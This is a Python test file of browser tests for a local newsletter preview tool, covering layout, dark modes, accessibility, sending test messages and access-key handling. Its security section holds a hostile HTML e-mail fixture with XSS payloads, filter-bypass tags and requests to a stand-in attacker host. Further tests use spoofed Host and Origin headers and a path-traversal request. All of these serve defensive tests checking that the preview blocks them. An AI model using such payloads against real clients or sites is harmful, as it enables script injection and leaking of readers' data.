"""The preview in a real browser."""

from __future__ import annotations

import json
import os
import re
import urllib.error
import urllib.request
from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from pipeline.models.address import parse_address
from pipeline.project import Project
from pipeline.web.preview.access import AccessGuard, keep_token
from tests.browser import Browser, overflow, violations
from tests.web.previews import (
    ARTICLE,
    CONFIG,
    Preview,
    frame,
    make_project,
    run_preview,
    wait_for_findings,
    wait_for_look,
    wait_for_version,
)

if TYPE_CHECKING:
    from playwright.sync_api import Page

PAGE_RULES = (
    *("aria-allowed-attr", "aria-required-children", "aria-required-parent", "aria-roles"),
    *(
        "aria-valid-attr-value",
        "button-name",
        "color-contrast",
        "document-title",
        "duplicate-id-aria",
    ),
    *(
        "frame-title",
        "html-has-lang",
        "image-alt",
        "label",
        "landmark-one-main",
        "link-name",
        "list",
    ),
    *(
        "listitem",
        "nested-interactive",
        "page-has-heading-one",
        "scrollable-region-focusable",
        "select-name",
    ),
    *("tabindex", "target-size"),
)


@pytest.fixture(scope="module")
def shared_preview(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Preview]:
    """A preview of one article, for tests that change nothing."""
    with run_preview(make_project(tmp_path_factory.mktemp("shared") / "lantern")) as running:
        yield running


@pytest.fixture
def preview(tmp_path: Path) -> Iterator[Preview]:
    """A preview of one article."""
    with run_preview(make_project(tmp_path / "lantern")) as running:
        yield running


def test_first_page_shows_desktop_and_phone(shared_preview: Preview, browser: Browser) -> None:
    """The first page shows the message in two widths, its title and its image; nothing is loaded from the web."""

    def work(page: Page) -> tuple[str, str, bool, list[str]]:
        wait_for_version(page)
        is_loaded = frame(page, "phone").locator("img").evaluate("i => i.naturalWidth > 0")
        requests: list[str] = page.asked_elsewhere  # type: ignore[attr-defined]
        return (
            page.inner_text("#title"),
            frame(page).locator("h1").inner_text(),
            is_loaded,
            requests,
        )

    assert ("The Tide Clock", "The Tide Clock", True, []) == browser.at(shared_preview.url, work)


def test_saved_changes_appear_at_the_same_scroll_position(
    preview: Preview, browser: Browser
) -> None:
    """After a change of article or configuration the new version is shown, scrolled to the same place."""

    def work(page: Page) -> Any:  # Any: what is read on the page
        wait_for_version(page)
        frame(page).locator("html").evaluate("root => { root.scrollTop = 300 }")
        page.wait_for_timeout(100)
        preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))
        wait_for_version(page, 2)
        top = frame(page).locator("html").evaluate("root => root.scrollTop")
        text = frame(page).locator("body").inner_text()
        preview.save(CONFIG.replace("Keep the lamp lit", "Feed the lamp"), "handbill.toml")
        wait_for_version(page, 3)
        return (
            top,
            "A boy winds it." in text,
            "Feed the lamp" in frame(page).locator("body").inner_text(),
        )

    assert (300, True, True) == browser.at(preview.url, work)


def test_error_above_the_last_working_version(preview: Preview, browser: Browser) -> None:
    """An error is shown with file and line; the last working version stays until it is fixed."""

    def work(page: Page) -> Any:  # Any: what is read on the page
        wait_for_version(page)
        preview.save(
            CONFIG.replace('timezone = "Europe/London"', 'timezone = "Mars/Olympus"'),
            "handbill.toml",
        )
        page.wait_for_selector("#error:not([hidden])")
        message, title = page.inner_text("#error"), frame(page).locator("h1").inner_text()
        preview.save(CONFIG, "handbill.toml")
        page.wait_for_selector("#error", state="hidden")
        return message, title

    message, title = browser.at(preview.url, work)
    assert "handbill.toml:5, [publication] timezone" in message
    assert "The Tide Clock" == title


def test_dark_schemes_are_dark(shared_preview: Preview, browser: Browser) -> None:
    """The theme's dark mode and both kinds of forced dark mode change the colors; light and dark stand side by side."""
    style = (
        "() => [getComputedStyle(document.querySelector('.prose p')).color,"
        " getComputedStyle(document.documentElement).filter].join()"
    )

    def work(page: Page) -> tuple[list[str], int]:
        wait_for_version(page)
        seen = []
        for scheme in ("light", "dark", "inverted", "darkened"):
            page.select_option("#scheme", scheme)
            shown = wait_for_look(page, f"full-{scheme}")
            seen.append(frame(shown).locator("body").evaluate(style))
        page.select_option("#scheme", "both")
        frame(page, "phone-dark").locator("h1").wait_for()
        return seen, page.locator(".card").count()

    seen, card_count = browser.at(shared_preview.url, work)
    assert (4, 4) == (len(set(seen)), card_count)


def test_everything_fits_the_window(shared_preview: Preview, browser: Browser) -> None:
    """Views, panel and controls fit, whether the panel is shown or not; a narrow window shows one view at a time."""

    def work(page: Page) -> list[dict[str, Any]]:
        wait_for_version(page)
        seen = [review_everything(page)]
        for width_px in (768, 375):
            page.set_viewport_size({"width": width_px, "height": 800})
            page.click("#tab-findings")
            seen.append(review_everything(page))
        return seen

    def review_everything(page: Page) -> dict[str, Any]:
        widths: dict[str, Any] = {"open": measure(page)}
        widths["panel"] = page.locator("#panel").bounding_box()
        page.keyboard.press("b")
        page.locator("#panel").wait_for(state="hidden")
        for name in ("more-views", "view-as", "menu-button"):
            page.click(f"#{name}")
            widths[name] = measure(page)
            page.keyboard.press("Escape")
        page.click('[data-view="text"]')
        widths["text"] = measure(page)
        page.click('[data-view="desktop"]')
        return widths

    def measure(page: Page) -> tuple[int, int, int]:
        """Return by how much the page and the views are too wide, and the number of views."""
        views = page.locator("#views")
        too_wide: int = views.evaluate("views => views.scrollWidth - views.clientWidth")
        return overflow(page), too_wide, page.locator(".card").count()

    wide, *narrow = browser.at(shared_preview.url, work)
    assert all(each.pop("panel")["height"] > 200 for each in (wide, *narrow))
    assert (0, 0, 3) == wide.pop("text")
    assert {(0, 0, 2)} == set(wide.values())
    assert {(0, 0, 1)} == {size for each in narrow for size in each.values()}


def test_panel_width_by_keyboard(shared_preview: Preview, browser: Browser) -> None:
    """A link skips the message; the panel is resized with the arrow keys and keeps its width over a reload."""

    def work(page: Page) -> list[float]:
        wait_for_version(page)
        widths = [page.locator("#panel").evaluate("panel => panel.offsetWidth")]
        for key in (
            "Tab",
            "Tab",
            "Enter",
            "Tab",
        ):  # the second link, then what comes after its target
            page.keyboard.press(key)
        assert "panel-resizer" == page.evaluate("document.activeElement.id")
        for _ in range(3):
            page.keyboard.press("ArrowLeft")
        widths.append(page.locator("#panel").evaluate("panel => panel.offsetWidth"))
        page.reload()
        wait_for_version(page)
        return [*widths, page.locator("#panel").evaluate("panel => panel.offsetWidth")]

    assert [300, 360, 360] == browser.at(shared_preview.url, work)


def test_views_open_and_close_by_key(shared_preview: Preview, browser: Browser) -> None:
    """Every view has a button and a key, and shows the message."""

    def work(page: Page) -> dict[str, str]:
        wait_for_version(page)
        seen = {}
        for button in page.locator("[data-view]").all():
            name = button.get_attribute("data-view") or ""
            key = str(button.get_attribute("title"))[-1]
            if button.get_attribute("aria-pressed") == "false":
                page.keyboard.press(key)
            card = page.locator(f'[data-card="{name}"]')
            page.locator(f'[data-card="{name}"]:has(iframe, pre:has-text("tide"))').wait_for()
            content = frame(page, name).locator("body") if card.locator("iframe").count() else card
            seen[name] = content.inner_text()
            page.keyboard.press(key)
            card.wait_for(state="detached")
        return seen

    seen = browser.at(shared_preview.url, work)
    assert 9 == len(seen)
    for name, text in seen.items():
        assert "tide clock" in text.lower(), name


def test_findings_lead_to_every_place(tmp_path: Path, browser: Browser) -> None:
    """Findings are grouped; each place leads to its line and is marked in the message; what is fixed is told."""
    article = ARTICLE.replace(
        "Nobody winds it.",
        "Nobody winds it: [here](http://a.example.org/1).\n\nAnd [here](http://b.example.org/2).",
    )
    with run_preview(make_project(tmp_path / "lantern", article=article)) as preview:

        def work(page: Page) -> Any:  # Any: what is read on the page
            wait_for_findings(wait_for_version(page))
            groups = page.locator(".stake h3").all_inner_texts()
            page.locator(".place", has_text="http://b.example.org/2").click()
            lines = page.inner_text("#panel .lines .current")
            outline = "link => link.style.outlineStyle"
            link = frame(page, "phone").locator('a[href="http://b.example.org/2"]')
            seen = [groups, lines, link.evaluate(outline)]
            preview.save(article.replace("http://b", "https://b"))
            page.locator(".fixed").wait_for()
            return [*seen, page.inner_text(".fixed"), page.inner_text("#panel")]

        groups, lines, outline, fixed, left = browser.at(preview.url, work)
    assert ["Links 1", "Accessibility 1"] == groups
    assert lines.strip().startswith("16  And [here](http://b.example.org/2).")
    assert "solid" == outline
    assert "1 problem fixed" in fixed
    assert "http://b.example.org/2" in fixed
    assert "http://a.example.org/1" in left


def test_panels(shared_preview: Preview, browser: Browser) -> None:
    """The panels show inbox lines, links with reference codes, images, notes with references, and sizes."""

    def work(page: Page) -> dict[str, str]:
        wait_for_version(page)
        found = {}
        for name in ("inbox", "links", "images", "notes", "headers", "size", "recipients"):
            page.click(f"#tab-{name}")
            found[name] = page.inner_text("#panel")
        page.click("#tab-accessibility")
        page.locator("#panel:not(:has-text('Checking …'))").wait_for()
        found["accessibility"] = page.inner_text("#panel")
        return found

    found = browser.at(shared_preview.url, work)
    assert "What the tide clock says" in found["inbox"]
    assert re.search(r"newsletter_[a-z2-7]{4}_end_10", found["links"])
    assert "640 × 360" in found["images"]
    assert "A copper ball the size of a cheese." in found["notes"]
    assert "in “Nobody winds it." in found["notes"]
    assert "Gmail clips at" in found["size"]
    assert "The sender; DMARC" in found["headers"]
    assert "donor: monthly" in found["recipients"]
    assert "No problems found by axe-core." == found["accessibility"]


def test_view_as_group_values_time_and_language(shared_preview: Preview, browser: Browser) -> None:
    """A group, a typed value, the time after the deadline and another language each change the message."""

    def work(page: Page) -> dict[str, str]:
        wait_for_version(page)
        seen = {}

        def read(name: str, text: str) -> None:
            frame(page).get_by_text(text).first.wait_for()
            seen[name] = frame(page).locator("body").inner_text()

        read("most", "Keep the lamp lit")
        page.click("#view-as")
        page.select_option("#view-as-group", label="donor: monthly")
        read("monthly", "Thank you for every month")
        page.select_option("#view-as-group", label="Most readers")
        page.fill('[data-field="name"]', "Ada & Grace")
        page.keyboard.press("Tab")
        read("typed", "Dear Ada & Grace")
        page.select_option("#view-as-time", index=1)
        read("after", "The drive is over.")
        page.select_option("#view-as-language", "fr")
        read("french", "Se désabonner")
        is_loaded = "() => [...document.images].every(i => i.naturalWidth > 0)"
        seen["images"] = str(frame(page).locator("body").evaluate(is_loaded))
        return seen

    seen = browser.at(shared_preview.url, work)
    assert "Keep the lamp lit" not in seen["monthly"]
    assert "Keep the lamp lit" not in seen["after"]
    assert "Dear reader" in seen["most"]
    assert "True" == seen["images"]


def test_send_a_test(preview: Preview, browser: Browser) -> None:
    """A test is sent by the project's sender, is marked in its subject, and can be opened in the outbox."""

    def work(page: Page) -> tuple[str, str, str]:
        wait_for_version(page)
        page.click("#test")
        page.fill("#address", "editor@lantern.example.org")
        page.click("dialog button.primary")
        page.get_by_text("Written to").wait_for()
        page.goto(f"{preview.origin}/folder/outbox?q=editor@lantern")
        subject = page.inner_text(".entries strong")
        page.click(".entries a")
        wait_for_version(page)
        page.keyboard.press("t")
        return (
            subject,
            frame(page).locator("h1").inner_text(),
            page.inner_text('[data-card="text"]'),
        )

    subject, title, text = browser.at(preview.url, work)
    assert "[Test] What the tide clock says" == subject
    assert "The Tide Clock" == title
    assert "[1] There was a second one until 1911." in text
    (written,) = (preview.folder / "outbox").glob("*/*.eml")
    assert b"editor@lantern.example.org" in written.read_bytes()


def test_copy_html_and_download(shared_preview: Preview, browser: Browser) -> None:
    """The HTML is copied to the clipboard, and the download is the message as viewed."""

    def work(page: Page) -> tuple[str, bytes]:
        wait_for_version(page)
        page.click("#menu-button")
        page.click("#copy")
        page.get_by_text("HTML copied").wait_for()
        copied = page.evaluate("navigator.clipboard.readText()")
        page.click("#menu-button")
        with page.expect_download() as download:
            page.click("#download")
        return copied, Path(download.value.path()).read_bytes()

    copied, message = browser.at(shared_preview.url, work)
    assert copied.startswith("<!DOCTYPE html>")
    assert b"Subject: What the tide clock says" in message


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_pages_of_the_preview_are_accessible(
    preview: Preview, browser: Browser, scheme: Any
) -> None:
    """axe finds no problem in the pages, panels and dialogs of the preview, in light and dark mode."""
    with Project.open(preview.folder).open_subscribers() as subscribers:
        subscribers.add(parse_address("Ada <ada@example.org>"), list_name="weekly", attributes={})
    preview.call(f"{preview.article_path}/test", {"address": "editor@example.org"})
    preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))

    def work(page: Page) -> dict[str, list[str]]:
        wait_for_findings(wait_for_version(page, 2))
        found = {"preview": find_violations(page)}
        for name in ("inbox", "links", "images", "notes", "size", "recipients", "changes"):
            page.click(f"#tab-{name}")
            page.locator("#panel:not(:has-text('Loading …'))").wait_for()
            found[name] = find_violations(page)
        page.keyboard.press("?")
        found["keys"] = find_violations(page)
        page.keyboard.press("Escape")
        for name in ("more-views", "menu-button"):
            page.click(f"#{name}")
            found[name] = find_violations(page)
            page.keyboard.press("Escape")
        page.click("#view-as")
        found["view as"] = find_violations(page)
        page.click("#find-subscriber")
        page.fill("#subscriber-search", "a")
        page.locator(".subscribers .item").first.wait_for()
        found["subscribers"] = find_violations(page)
        page.keyboard.press("Escape")
        page.click("#send")
        page.fill("#send-time", "2099-12-01T09:00")
        found["send"] = find_violations(page)
        page.click("#send-review")
        page.locator("#send-confirm").wait_for()
        found["summary"] = find_violations(page)
        page.click("#send-confirm")
        page.locator("#campaign-state").wait_for()
        found["campaign"] = find_violations(page)
        for path in ("articles", "folder/outbox", "nothing-here"):
            page.goto(f"{preview.origin}/{path}")
            found[path] = find_violations(page)
        return found

    def find_violations(page: Page) -> list[str]:
        # messages in frames are checked elsewhere
        return violations(page, PAGE_RULES if scheme == "light" else ("color-contrast",))

    found = browser.at(preview.url, work, scheme=scheme)
    assert {} == {place: problems for place, problems in found.items() if problems}


def test_list_of_many_articles(tmp_path: Path, browser: Browser) -> None:
    """Two hundred articles are listed, searched, and one is opened."""
    folder = make_project(tmp_path / "lantern")
    for number in range(200):
        (folder / f"article-{number:03}.md").write_text(
            f"# Article {number}\n\nText.\n", encoding="utf-8"
        )
    with run_preview(folder, None) as preview:

        def work(page: Page) -> tuple[int, int, str]:
            all_articles = page.locator("#articles li:visible").count()
            page.fill("#article-search", "article 17")
            matching = page.locator("#articles li:visible").count()
            page.click("#articles li:visible a")
            wait_for_version(page)
            return all_articles, matching, page.inner_text("#title")

        all_articles, matching, title = browser.at(preview.url, work)
    assert (201, 11) == (all_articles, matching)
    assert title.startswith("Article 17")


def test_lists_update_by_themselves(tmp_path: Path, browser: Browser) -> None:
    """New articles and campaigns appear in the open list, times in the publication's zone, the filter kept."""
    config = CONFIG.replace("Europe/London", "Asia/Kolkata")
    folder = make_project(tmp_path / "lantern", config=config)
    os.utime(folder / "tide.md", (1_900_000_000, 1_900_000_000))
    with run_preview(folder, None) as preview:

        def work(page: Page) -> list[str]:
            page.locator("#articles strong", has_text="The Tide Clock").wait_for()
            seen = [page.inner_text("#count"), page.inner_text("#articles time")]
            page.fill("#article-search", "ferry")
            preview.save("# The Ferry\n\nText.\n", "ferry.md")
            page.locator("#articles strong", has_text="The Ferry").wait_for()
            seen.append(",".join(page.locator("#articles li:visible strong").all_inner_texts()))
            with Project.open(folder).open_subscribers() as subscribers:
                subscribers.add(parse_address("ada@example.org"), list_name="weekly", attributes={})
            path = preview.article_path
            summary = preview.call(f"{path}/summary", {"list": "weekly"})
            form = {"list": "weekly", "local_time": "2099-12-01T09:00", "count": "1"}
            preview.call(f"{path}/campaign", form | {"digest": summary["digest"]})
            page.locator(".campaigns time").wait_for()
            return [*seen, page.inner_text(".campaigns time")]

        count, time, shown, campaign = browser.at(preview.url, work)
    assert "1 article · times in Asia/Kolkata" == count
    assert "17 Mar 2030, 23:16" == time
    assert "The Ferry" == shown
    assert "01 Dec 2099, 09:00" == campaign


def test_long_article(tmp_path: Path, browser: Browser) -> None:
    """An article of 20,000 words is wait_for_version, scrolled and replaced."""
    body = "\n\n".join(
        f"Paragraph {number}. " + "The tide comes in. " * 40 for number in range(125)
    )
    article = f"---\ntitle: Long\n---\n\n{body}\n"
    with run_preview(make_project(tmp_path / "lantern", article=article)) as preview:

        def work(page: Page) -> tuple[bool, bool]:
            wait_for_version(page)
            page.select_option("#client", "gmail")
            frame(page).get_by_text("[Message clipped]").wait_for()
            page.select_option("#client", "full")
            preview.save(article.replace("Paragraph 124.", "The last one."))
            wait_for_version(page, 2)
            text = frame(page).locator("body").inner_text()
            return "The last one." in text, "Paragraph 0." in text

        assert (True, True) == browser.at(preview.url, work)


def test_two_windows(preview: Preview, browser: Browser) -> None:
    """A saved change appears in every open window."""

    def work(page: Page) -> list[str]:
        other = page.context.new_page()
        other.goto(page.url)
        for each in (page, other):
            wait_for_version(each)
        preview.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))
        for each in (page, other):
            frame(each).get_by_text("A boy winds it.").wait_for()
        return [frame(each).locator("body").inner_text() for each in (page, other)]

    assert all("A boy winds it." in text for text in browser.at(preview.url, work))


def test_missing_page(shared_preview: Preview, browser: Browser) -> None:
    """An address that leads nowhere is answered in the preview's own words, with the way back; likewise in JSON."""

    def work(page: Page) -> tuple[str, str]:
        page.goto(f"{shared_preview.origin}/nothing-here")
        text = page.inner_text("main")
        page.click("main a")
        return text, page.inner_text("h1")

    text, heading = browser.at(shared_preview.url, work)
    assert "There is nothing at this address." in text
    assert "The Lantern" == heading
    assert "moved, renamed or deleted" in shared_preview.call("/preview/nothing/state")["error"]


def test_open_page_survives_a_restart(tmp_path: Path, browser: Browser) -> None:
    """The key is kept where nobody else can read it: after a restart an open page goes on, and shows what is new."""
    folder = make_project(tmp_path / "lantern")
    token = keep_token(folder)
    key_file = folder / ".handbill" / "preview-key"
    assert (0o600, token) == (key_file.stat().st_mode & 0o777, key_file.read_text())
    with ExitStack() as stack:
        first = stack.enter_context(run_preview(folder, token=token))
        restarted = ExitStack()

        def work(page: Page) -> str:
            wait_for_version(page)
            page.goto(f"{page.url}?")
            wait_for_version(page)
            stack.close()
            page.locator("#status.failure").wait_for()
            first.save(ARTICLE.replace("Nobody winds it.", "A boy winds it."))
            port = first.server.guard.port
            restarted.enter_context(run_preview(folder, None, port=port, token=keep_token(folder)))
            frame(page).get_by_text("A boy winds it.").wait_for()
            return page.inner_text("#title")

        with restarted:
            assert "The Tide Clock" == browser.at(first.url, work)


def test_damaged_or_readable_key_is_replaced(tmp_path: Path) -> None:
    """A key that others could have read, or that is not whole, admits nobody after the next start."""
    folder = make_project(tmp_path / "lantern")
    token, file = keep_token(folder), folder / ".handbill" / "preview-key"
    assert token == keep_token(folder)
    file.chmod(0o644)
    second = keep_token(folder)
    file.write_text(second[:5])
    third = keep_token(folder)

    assert 3 == len({token, second, third})
    assert 0o600 == file.stat().st_mode & 0o777


# Security

HOSTILE = """\
<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://evil.example.org/refresh">
<base href="http://evil.example.org/"><link rel="stylesheet" href="http://evil.example.org/x.css">
<style>@import url(http://evil.example.org/import.css); body{background:url(http://evil.example.org/bg.png)}
a[href^="h"]{background:url(http://evil.example.org/leak)}</style></head>
<body onload="parent.postMessage('owned','*')"><h1>The tide clock</h1>
<script>top.location='http://evil.example.org/top';document.title='owned'</script>
<scr<script>ipt>document.title='owned'</script>
<img src="http://evil.example.org/pixel.gif" onerror="document.title='owned'">
<img src=x onerror=document.title='owned'>
<svg onload="document.title='owned'"><a xlink:href="javascript:1">x</a></svg>
<iframe src="http://evil.example.org/frame"></iframe><object data="http://evil.example.org/o"></object>
<form action="http://evil.example.org/post" method="post"><input name="a" value="b"><button>Go</button></form>
<a id="js" href="javascript:document.title='owned'">click</a>
<a id="out" href="http://evil.example.org/out" target="_top">out</a>
<div style="position:fixed;inset:0;background:url('http://evil.example.org/style')">over</div>
</body></html>
"""


def test_hostile_message_is_harmless(tmp_path: Path, browser: Browser) -> None:
    """Scripts, handlers, links, forms, frames, refreshes and styles in a message run nothing and load nothing."""
    from email.message import EmailMessage

    caught = tmp_path / "caught"
    caught.mkdir()
    message = EmailMessage()
    message["From"], message["To"] = "x@evil.example.org", "you@example.org"
    message["Subject"] = "<script>document.title='owned'</script>"
    message.set_content("text")
    message.add_alternative(HOSTILE, subtype="html")
    (caught / "1.eml").write_bytes(bytes(message))
    with run_preview(make_project(tmp_path / "lantern"), caught=caught) as preview:

        def work(page: Page) -> tuple[list[str], str, str, str]:
            page.goto(f"{preview.origin}/folder/caught")
            page.click(".entries a")
            wait_for_version(page)
            for client in ("outlook", "no-styles"):
                page.select_option("#client", client)
            page.select_option("#scheme", "both")
            for key in ("m", "h"):
                page.keyboard.press(key)
            wait_for_look(page, "no-styles-light")
            for name in ("#js", "#out"):
                frame(page).locator(name).click(force=True)
            page.wait_for_timeout(300)
            requests: list[str] = page.asked_elsewhere  # type: ignore[attr-defined]
            inner = (
                frame(page).locator("html").evaluate("() => [document.title, self.origin].join()")
            )
            return requests, page.url, page.title(), inner

        requests, url, title, inner = browser.at(preview.url, work)
    assert [] == requests
    assert url.startswith(preview.origin)
    assert "owned" not in (title, inner.split(",")[0])
    assert "null" == inner.split(",")[-1]


def send_request(
    preview: Preview,
    path: str,
    *,
    method: str = "GET",
    headers: dict[str, str] | None = None,
) -> int:
    """Send a request without a browser; return the status."""
    body = json.dumps({"address": "a@example.org"}).encode() if method == "POST" else None
    request = urllib.request.Request(
        preview.origin + path, data=body, method=method, headers=headers or {}
    )
    try:
        with urllib.request.build_opener(NoRedirect).open(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as error:
        with error:
            return error.code


class NoRedirect(urllib.request.HTTPRedirectHandler):
    """Does not follow redirects."""

    def redirect_request(self, *_: Any) -> None:
        """Follow no redirect."""


def test_requests_without_the_key_are_rejected(preview: Preview) -> None:
    """No page without the key or under another host name, no action without the header or from another site."""
    token = preview.server.guard.token
    cookie = {"Cookie": preview.cookie}
    name = preview.server.session.open_article(str(preview.folder / "tide.md"))
    path = f"/preview/{name}/test"
    json_type = {"Content-Type": "application/json"}

    assert 403 == send_request(preview, "/articles")
    assert 403 == send_request(preview, "/articles", headers={"Accept": "text/html"})
    assert 303 == send_request(preview, f"/?token={token}")
    assert 200 == send_request(preview, "/articles", headers=cookie)
    assert 421 == send_request(preview, "/articles", headers={**cookie, "Host": "evil.example.org"})
    assert 403 == send_request(preview, path, method="POST", headers={**cookie, **json_type})
    header = {"X-Handbill-Token": token}
    assert 403 == send_request(preview, path, method="POST", headers={**header, **json_type})
    evil = {"Origin": "http://evil.example.org"}
    assert 403 == send_request(
        preview, path, method="POST", headers={**cookie, **header, **json_type, **evil}
    )
    assert 404 == send_request(preview, f"/frames/guess/{name}/full-light", headers=cookie)
    assert 404 == send_request(preview, "/folder/outbox/..%2Fhandbill.toml", headers=cookie)
    assert not (preview.folder / "outbox").exists()
    assert 200 == send_request(
        preview, path, method="POST", headers={**cookie, **header, **json_type}
    )


def test_two_projects_in_one_browser() -> None:
    """Each preview has a cookie of its own: the browser sends those of all ports to each of them."""
    first, second = AccessGuard(port=8765), AccessGuard(port=8766)
    cookies = "; ".join(f"{guard.cookie}={guard.token}" for guard in (first, second))

    for guard in (first, second):
        assert guard.check_page({"HOST": f"127.0.0.1:{guard.port}", "COOKIE": cookies}) is None
    only_first = {"HOST": "127.0.0.1:8766", "COOKIE": f"{second.cookie}={first.token}"}
    assert second.check_page(only_first) is not None


def test_frames_never_contain_the_key(preview: Preview) -> None:
    """An error is shown as a page in the browser, but as plain JSON in a frame: the page contains the token."""
    guard = preview.server.guard
    (preview.folder / "broken.md").write_text("---\nappeal: 7\n---\n\nWords.\n", encoding="utf-8")
    name = preview.server.session.open_article(str(preview.folder / "broken.md"))
    answers = {}
    for path in ("/campaign/nothing", f"/frames/{guard.frame_key}/{name}/full-light"):
        headers = {"Accept": "text/html", "Cookie": preview.cookie}
        request = urllib.request.Request(preview.origin + path, headers=headers)
        with pytest.raises(urllib.error.HTTPError) as caught, urllib.request.urlopen(request):
            pass
        with caught.value as response:
            answers[path.split("/")[1]] = (response.code, response.read().decode())
    assert (409, True) == (answers["campaign"][0], guard.token in answers["campaign"][1])
    assert "This page cannot be shown." in answers["campaign"][1]
    assert (409, False) == (answers["frames"][0], guard.token in answers["frames"][1])
    assert "broken.md" in answers["frames"][1]
